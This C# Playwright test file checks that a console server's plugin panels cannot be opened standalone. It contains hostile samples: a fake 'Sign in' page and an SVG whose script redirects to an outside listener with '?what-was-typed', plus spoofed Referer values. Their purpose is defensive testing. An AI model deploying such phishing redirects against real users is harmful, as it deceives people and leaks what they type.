using Bailey.Console.Tests.Browsing;
using Bailey.Console.Tests.Frame;
using Bailey.Console.Tests.Panels;
using Bailey.Server.Tests.SignIn;
using Microsoft.Playwright;

namespace Bailey.Console.Tests.Hostile;

/// <summary>The address of a panel, sent to somebody to be opened outside of its frame: it is on the console's own server, and nothing around it says whose it is.</summary>
public sealed class PanelByItselfTests
{
    private const string Panel = "/api/communities/chess/panels/org.example.board/board";

    [Theory]
    [InlineData("board.html")]
    [InlineData("board.svg")]
    public async Task A_panel_that_is_opened_by_itself_shows_nothing_and_leads_nobody_away(string file)
    {
        using var outside = new Outside();
        await using var world = await ConsoleWorld.StartAsync();
        var away = $"location.href = 'http://127.0.0.1:{outside.Port}/?what-was-typed';";
        await PanelPackages.InstallAsync(world.Server, PanelPackages.Build(new Dictionary<string, string>
        {
            ["board.html"] = """<!doctype html><html lang="en"><head><title>Sign in</title><script src="away.js" defer></script></head><body><h1>Sign in</h1></body></html>""",
            ["board.svg"] = """<svg xmlns="http://www.w3.org/2000/svg"><script href="away.js"/></svg>""",
            ["away.js"] = $"setTimeout(() => {{ {away} }}, 100);",
        }));
        using var mo = await world.VisitAsync("mo");
        var address = (await mo.GetAsync(Panel)).ShouldBe(200).Json["address"]!.GetValue<string>().Replace("board.html", file, StringComparison.Ordinal);
        var page = await world.OpenAsync("root");
        var answer = await page.GotoAsync(address);
        answer!.Status.ShouldBe(404);
        await Assertions.Expect(page.Locator("body")).ToContainTextAsync("not by itself");
        outside.Told.ShouldBeEmpty();
    }

    [Theory]
    [InlineData("document", 404)]
    [InlineData("object", 404)]
    [InlineData("embed", 404)]
    [InlineData("frame", 404)]
    [InlineData("iframe", 200)]
    [InlineData("script", 200)]
    [InlineData("", 404)]
    public async Task Files_of_panels_are_given_to_be_parts_of_a_page(string destination, int status)
    {
        await using var world = await PageGateTests.StartAsync();
        await PanelPackages.InstallAsync(world, PanelPackages.Build(new Dictionary<string, string> { ["board.html"] = "<!doctype html>" }));
        using var bob = await PageGateTests.PersonAsync(world, "bob");
        var address = (await bob.GetAsync(Panel)).ShouldBe(200).Json["address"]!.GetValue<string>();
        using var browser = new Visitor(world);
        (await browser.GetAsync(address, ("Sec-Fetch-Dest", destination))).Status.ShouldBe(status);
    }

    // Browsers say what for they ask only at addresses that they trust. At others they say whose page asks, and nothing where that is to be kept.
    [Theory]
    [InlineData("board.html", "http://{host}/", 200, true)]
    [InlineData("board.html", "http://{host}/c/chess/panels/org.example.board/board", 200, true)]
    [InlineData("board.html", "", 404, false)]
    [InlineData("BOARD.HTML", "", 404, false)]
    [InlineData("board.html", "http://elsewhere.invalid/", 404, false)]
    [InlineData("board.html", "http://{host}.elsewhere.invalid/", 404, false)]
    [InlineData("board.html", "http://{host}@elsewhere.invalid/", 404, false)]
    [InlineData("board.html", "{host}", 404, false)]
    [InlineData("board.svg", "", 200, false)]
    [InlineData("board.js", "", 200, false)]
    [InlineData("bailey.js", "", 200, false)]
    public async Task Where_browsers_do_not_say_what_for_they_ask_pages_of_panels_are_given_to_pages_of_this_server_alone(string file, string asking, int status, bool runs)
    {
        await using var world = await PageGateTests.StartAsync();
        await PanelPackages.InstallAsync(world, PanelPackages.Build(new Dictionary<string, string> { ["board.html"] = "<!doctype html>", ["board.svg"] = "<svg/>", ["board.js"] = "1;" }));
        using var bob = await PageGateTests.PersonAsync(world, "bob");
        var address = (await bob.GetAsync(Panel)).ShouldBe(200).Json["address"]!.GetValue<string>().Replace("board.html", file, StringComparison.Ordinal);
        using var browser = new Visitor(world);
        var answer = await browser.GetAsync(address, ("Referer", asking.Replace("{host}", world.Address.Authority, StringComparison.Ordinal)));
        answer.Status.ShouldBe(status);
        answer.Headers["Content-Security-Policy"].ShouldStartWith(runs ? "sandbox allow-scripts;" : "sandbox;");
    }

    [Fact]
    public async Task A_panel_is_shown_and_works_where_the_browser_does_not_trust_the_address_and_is_nothing_by_itself()
    {
        using var outside = new Outside();
        await using var world = await ConsoleWorld.StartAsync();
        await PanelPackages.InstallAsync(world.Server, PanelPackages.Build(new Dictionary<string, string>
        {
            ["board.html"] = """<!doctype html><html lang="en"><head><title>Board</title><script src="board.js" defer></script></head><body><h1>Board</h1><p id="said">nothing</p><img src="board.svg" alt="A dot" width="8" height="8"></body></html>""",
            ["board.js"] = $"document.getElementById('said').textContent = 'it runs'; if (window.top === window) location.href = 'http://127.0.0.1:{outside.Port}/?what-was-typed';",
            ["board.svg"] = """<svg xmlns="http://www.w3.org/2000/svg" width="8" height="8"><rect width="8" height="8"/></svg>""",
        }));
        const string Host = "bailey.invalid";
        await using var browser = await Chromium.LaunchAsync($"--host-resolver-rules=MAP {Host} 127.0.0.1");
        var page = await world.OpenAsync("mo", host: Host, browser: browser);
        await page.ShowAsync("/c/chess/panels/org.example.board/board", "Board");
        (await page.EvaluateAsync<bool>("() => isSecureContext")).ShouldBeFalse("this is about addresses that browsers do not trust");
        var frame = page.FrameLocator("iframe");
        await Assertions.Expect(frame.Locator("#said")).ToHaveTextAsync("it runs");
        (await frame.Locator("img").EvaluateAsync<int>("image => image.naturalWidth")).ShouldBe(8);
        var address = await page.Locator("iframe").GetAttributeAsync("src");
        var answer = await page.GotoAsync(address!);
        answer!.Status.ShouldBe(404);
        await Assertions.Expect(page.Locator("body")).ToContainTextAsync("not by itself");
        outside.Told.ShouldBeEmpty();
    }
}
